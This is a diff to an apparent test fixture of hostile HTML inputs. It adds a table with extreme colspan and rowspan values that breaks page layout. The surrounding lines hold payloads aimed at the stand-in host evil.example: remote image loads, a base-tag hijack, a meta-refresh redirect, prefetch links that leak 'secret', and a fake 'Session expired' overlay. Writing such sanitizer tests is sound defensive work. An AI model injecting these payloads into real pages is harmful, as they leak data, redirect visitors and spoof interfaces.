@@ -27,6 +27,7 @@ export const hostileAnswers: Record<string, string> = {
     "a style attribute": "<p style=\"background:url('https://evil.example/p.png')\">x</p>",
     "a style over the whole page": "<div style='position:fixed;inset:0;background:red'>Session expired</div>",
     "a background attribute": "<table background='https://evil.example/p.png'><tr><td background='https://evil.example/q.png'>x</td></tr></table>",
+    "cells across everything": "<table><tr><td colspan=1000 rowspan=65534>x</td><td rowspan=0 colspan=-1>y</td></tr></table>",
     "a base": "<base href='https://evil.example/'>",
     "a meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "a prefetch": "<link rel=prefetch href='https://evil.example/?q=secret'><link rel=dns-prefetch href='//secret.evil.example'>",
